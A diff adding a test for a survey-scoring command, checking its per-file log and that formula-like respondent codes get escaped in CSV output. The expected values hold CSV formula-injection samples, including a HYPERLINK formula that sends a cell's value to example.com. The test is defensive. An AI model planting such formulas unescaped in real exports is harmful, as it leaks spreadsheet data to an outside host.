@@ -313,3 +313,33 @@ def test_a_rust_panic_rejects_the_file_instead_of_stopping_the_batch(form, tmp_p
     result = read_returns([ROOT / "data_samples" / "returned" / "member_R101_fr.xlsx"], form, jobs=1)
     assert list(result.files["status"]) == ["rejected"] and result.files["code"].iloc[0] == "unreadable-file"
     assert "PanicException" in result.files["message"].iloc[0]
+
+
+def test_the_score_command_on_the_corpus_logs_every_file_and_neutralizes_codes(tmp_path, expected_rows):
+    """``intangibles score tests/corpus/returned --out scores.csv``: the batch goes on to the
+    end, the log lists every file with its code, and the formula-like respondent codes of
+    csv-formula-injection.csv come out neutralized."""
+    import io
+
+    from rich.console import Console
+
+    from instrument.scoring import score_command
+
+    out = tmp_path / "scores.csv"
+    console = Console(file=io.StringIO(), width=200)
+    assert score_command([CORPUS / "returned"], form=SPEC, out=out, jobs=1, console=console) == 0
+    log = pd.read_csv(tmp_path / "scores-log.csv", dtype=str, keep_default_na=False)
+    committed = [r for r in expected_rows if r["file"].startswith("returned/") and not r["generated"]]
+    head = log.iloc[: len(committed)]
+    assert sorted(head["file"].map(name)) == sorted(r["file"].split("/", 1)[1] for r in committed)
+    for row in committed:
+        got = head[head["file"].map(name) == row["file"].split("/", 1)[1]].iloc[0]
+        assert got["status"] == row["status"]
+        if row["status"] == "rejected":
+            assert got["code"] == row["code"]
+    scores = pd.read_csv(out, dtype=str, keep_default_na=False)
+    injected = scores[scores["source_file"].str.endswith("csv-formula-injection.csv")]
+    assert sorted(injected["respondent"]) == sorted(["'" + c for c in ['=HYPERLINK("http://example.com/?"&A1,"x")',
+                                                                       "+W05", "-W06", "@W07"]])
+    assert set(injected["consortium_id"]) == {"'=1+1"}
+    assert "in = " in console.file.getvalue()
